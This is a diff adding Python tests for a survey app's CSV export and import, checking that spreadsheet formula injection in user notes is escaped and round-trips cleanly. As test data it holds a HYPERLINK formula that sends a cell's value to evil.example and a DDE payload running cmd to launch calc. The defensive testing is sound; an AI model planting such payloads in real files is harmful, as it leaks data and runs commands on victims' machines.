@@ -876,3 +876,36 @@ def test_the_file_is_read_as_german_even_for_an_english_reader(edition):
     with translation.override("en"):
         assert interpret_value(parameter(edition, "wartezeit"), "1,234") == (Decimal("1.234"), True)
         assert interpret_value(parameter(edition, "ladepunkte"), "1.234") == (Decimal("1234"), True)
+
+
+# --- Formula injection (issue 15, item 9) -----------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'
+
+
+def test_a_note_that_would_run_as_a_formula_is_text_in_the_csv_and_numbers_stay_numbers(edition, city, staff):
+    # given: notes typed by people, and a negative number
+    answer(edition, city, "wartezeit", value_number=Decimal("-3.5"), note=HYPERLINK)
+    answer(edition, city, "busse", value_number=Decimal(40), note="+cmd|' /C calc'!A0")
+
+    # when
+    table = read_csv(qio.questionnaire_csv(edition=edition, city=city))
+
+    # then
+    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in table[1:]}
+    assert rows["wartezeit"]["anmerkung"] == "'" + HYPERLINK
+    assert rows["busse"]["anmerkung"] == "'+cmd|' /C calc'!A0"
+    assert rows["wartezeit"]["wert"] == "-3,5"
+
+
+def test_a_neutralised_note_comes_back_unchanged_from_the_csv(edition, city, staff):
+    # given: the exported file, imported again as it is
+    answer(edition, city, "wartezeit", value_number=Decimal("12.5"), note=HYPERLINK)
+    data = qio.questionnaire_csv(edition=edition, city=city).encode("utf-8")
+
+    # when
+    result = run(staff, edition, city, data, "fragebogen.csv", confirm=True)
+
+    # then: the note is what was stored, without the apostrophe the export added
+    assert Answer.objects.get(city=city, parameter__key="wartezeit").note == HYPERLINK
+    assert [row.outcome for row in result.rows if row.parameter_key == "wartezeit"] == ["unchanged"]
